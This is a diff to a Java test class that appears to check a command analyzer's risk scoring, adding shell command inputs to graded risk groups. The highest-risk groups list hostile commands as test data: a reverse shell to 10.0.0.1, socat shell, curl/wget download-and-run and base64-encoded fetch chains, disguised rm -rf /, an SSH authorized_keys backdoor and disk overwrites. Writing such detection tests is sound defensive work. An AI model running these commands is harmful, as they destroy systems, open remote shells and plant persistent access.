@@ -82,6 +82,16 @@ class CommandAnalyzerRiskTest {
                 kill -l
                 crontab -l
                 sudo -l
+                command -v rm
+                dd if=/dev/zero of=/dev/null
+                echo ls | sh
+                printf 'ls\\n' | bash
+                docker ps
+                kubectl get pods
+                tar tzf a.tgz
+                echo {1..3} a{b,c}d
+                echo $((1+2)); (( i++ ))
+                git clean -n
                 """);
     }
 
@@ -97,6 +107,8 @@ class CommandAnalyzerRiskTest {
                 ln -s target link
                 git stash
                 tar czf backup.tgz src
+                git checkout -b feature
+                rmdir emptydir
                 """);
     }
 
@@ -134,6 +146,11 @@ class CommandAnalyzerRiskTest {
                 bash
                 echo 'unterminated
                 ls "unterminated
+                export PATH=/tmp:$PATH
+                kill -HUP 1234
+                systemctl daemon-reload
+                bash -s < script.sh
+                nc -l 8080
                 """);
     }
 
@@ -204,6 +221,20 @@ class CommandAnalyzerRiskTest {
                 docker rm -f web
                 kubectl delete pod web
                 echo "x" > /dev/tcp/10.0.0.1/80
+                export LD_PRELOAD=/tmp/x.so
+                git -c core.pager='rm -rf /' log
+                perl -e 'system("id")'
+                awk 'BEGIN{system("id")}'
+                sed 's/x/y/e' f
+                tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh
+                docker run --privileged -v /:/host alpine
+                cat script.sh | bash
+                ls | sh
+                ln -sf /bin/sh /usr/bin/python
+                echo "ssh-rsa AAA" >> ~/.ssh/authorized_keys
+                git push origin +main
+                kill 0
+                tar xzf a.tgz -C /
                 """);
     }
 
@@ -360,6 +391,23 @@ class CommandAnalyzerRiskTest {
                 ls; sudo -i sh -c 'rm -rf /'
                 echo ok; `rm -rf /`
                 cat $(rm -rf /) > /dev/null
+                bash -i >& /dev/tcp/10.0.0.1/8080 0>&1
+                curl http://x > /tmp/x.sh && bash /tmp/x.sh
+                curl -o run.sh http://x && sh run.sh
+                wget http://x/i.sh -O i.sh; chmod +x i.sh; ./i.sh
+                socat TCP:10.0.0.1:4444 EXEC:/bin/sh
+                rsync -av --delete src/ /
+                mv /etc /tmp
+                kill -9 1
+                yes > /dev/sda
+                rm -rf /usr/local
+                rm -rf /???
+                rm -rf ~root
+                busybox rm -rf /
+                a=(1 2 $(rm -rf /))
+                true $(true $(true $(rm -rf /)))
+                curl http://x | tee install.sh | sh
+                echo Y3VybCBodHRwOi8veCB8IHNo | base64 -d | bash
                 """);
     }
 
